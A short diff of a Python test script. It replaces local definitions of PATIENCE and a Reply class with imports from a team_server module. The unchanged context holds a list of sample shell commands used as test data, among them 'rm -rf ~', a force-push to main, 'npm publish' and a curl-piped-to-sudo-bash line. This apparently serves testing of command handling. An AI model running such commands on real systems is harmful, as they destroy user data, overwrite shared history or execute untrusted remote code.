@@ -15,7 +15,9 @@ import subprocess
 import sys
 import time
 
-PATIENCE = 30  # seconds
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "server"))
+from team_server import PATIENCE, Reply  # noqa: E402
+
 DAY_MS = 86400000
 LINES = ["git status", "rm -rf ~", "git push --force origin main", "ls -la",
          "npm publish", "curl -s https://example.com/x | sudo bash",
@@ -91,17 +93,6 @@ class World:
                 old.append(json.dumps(entry))
         self.write(path, "\n".join(old + [json.dumps(one) for one in today])
                    + "\n")
-
-
-class Reply:
-    def __init__(self, response):
-        self.status = response.status
-        self.headers = response.headers
-        self.body = response.read()
-
-    @property
-    def json(self):
-        return json.loads(self.body)
 
 
 class Ui:
